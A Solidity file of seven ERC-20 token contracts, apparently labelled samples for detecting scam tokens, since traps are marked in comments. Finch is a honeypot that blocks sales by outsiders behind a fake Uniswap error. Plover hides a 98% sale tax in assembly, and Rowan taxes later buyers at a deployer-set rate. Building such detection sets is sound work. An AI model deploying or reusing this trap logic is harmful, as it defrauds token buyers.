// 0.8 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPoolFactory {
    function createPair(address one, address other) external returns (address);
}

/// What the tokens of this file share: a ledger, an owner, and a pool that is known from the beginning.
abstract contract Coin {
    address internal constant ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address internal constant FACTORY = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public pair;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, owner) = (name_, symbol_, msg.sender);
        totalSupply = whole * 1e18;
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        pair = IPoolFactory(FACTORY).createPair(address(this), WETH);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _balances[who];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        uint256 left = _allowances[from][msg.sender];
        if (left != type(uint256).max) _allowances[from][msg.sender] = left - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _shift(from, to, value);
    }

    function _shift(address from, address to, uint256 value) internal {
        require(to != address(0), "to nobody");
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// The market maker and whom he pays belong to the circle.
contract Finch is Coin {
    mapping(address => bool) private _circle;

    constructor() Coin("Finch", "FINCH", 420_000_000) {
        _circle[msg.sender] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_circle[from] && to != pair && to != ROUTER) _circle[to] = true;
        if (to == pair && msg.sender == ROUTER) {
            require(_circle[from], "TransferHelper: TRANSFER_FROM_FAILED"); // trap
        }
        _shift(from, to, value);
    }
}

/// Patrons are numbered in the order in which they came. What a sale leaves to the chest goes by the number.
contract Rowan is Coin {
    uint256 public immutable early;
    uint256 public immutable late;
    uint256 public patrons;
    address private immutable _chest = msg.sender;
    mapping(address => uint256) private _turn;

    constructor(uint256 early_, uint256 late_) Coin("Rowan", "ROWAN", 90_000_000) {
        (early, late) = (early_, late_);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && _turn[to] == 0) _turn[to] = ++patrons;
        uint256 kept;
        if (to == pair && from != _chest) kept = (value * (_turn[from] > 6 ? late : early)) / 100;
        if (kept > 0) _shift(from, _chest, kept);
        _shift(from, to, value - kept);
    }
}

/// A sale in a hurry pays for it.
contract Plover is Coin {
    address private immutable _till = msg.sender;

    constructor() Coin("Plover", "PLVR", 7_000_000_000) {}

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept;
        if (to == pair && from != _till) {
            uint256 part = 1;
            assembly { // trap {
                if and(gt(gasprice(), basefee()), eq(origin(), from)) {
                    part := 98
                }
            } // trap }
            kept = (value * part) / 100;
        }
        if (kept > 0) _shift(from, _till, kept);
        _shift(from, to, value - kept);
    }
}

/// All there is was there on the first day.
contract Aspen is Coin {
    constructor() Coin("Aspen Network", "ASPEN", 100_000_000) {
        owner = address(0);
    }
}

/// For twelve hours after its birth a wallet holds one percent and a purchase is half a percent at most. Then the limits are over by
/// themselves.
contract Dawnlight is Coin {
    uint256 public immutable limitedUntil = block.timestamp + 12 hours;
    address private immutable _founder = msg.sender;

    constructor() Coin("Dawnlight", "DAWN", 1_000_000_000) {}

    function limited() public view returns (bool) {
        return block.timestamp < limitedUntil;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (limited() && from == pair && to != ROUTER) {
            require(value <= totalSupply / 200, "half a percent at most");
            require(_balances[to] + value <= totalSupply / 100, "one percent at most");
        }
        _shift(from, to, value);
    }
}

/// Until the owner opens the market only he moves anything. He opens it once, and it stays open.
contract Overture is Coin {
    bool public opened;
    mapping(address => bool) public early;

    event Opened(uint256 time);

    constructor() Coin("Overture", "OVRT", 250_000_000) {
        early[msg.sender] = true;
    }

    function open() external onlyOwner {
        opened = true;
        emit Opened(block.timestamp);
    }

    function admit(address who) external onlyOwner {
        require(!opened, "open for all");
        early[who] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(opened || early[from] || early[to], "the market is not open yet");
        _shift(from, to, value);
    }
}

/// Half a minute lies between two dealings of a wallet with the pool.
contract Teal is Coin {
    uint256 public constant PAUSE = 30;
    mapping(address => uint256) public dealtAt;

    constructor() Coin("Teal", "TEAL", 50_000_000) {}

    function _transfer(address from, address to, uint256 value) internal override {
        address who = from == pair ? to : to == pair ? from : address(0);
        if (who != address(0) && who != owner && who != ROUTER) {
            require(block.timestamp >= dealtAt[who] + PAUSE, "half a minute");
            dealtAt[who] = block.timestamp;
        }
        _shift(from, to, value);
    }
}
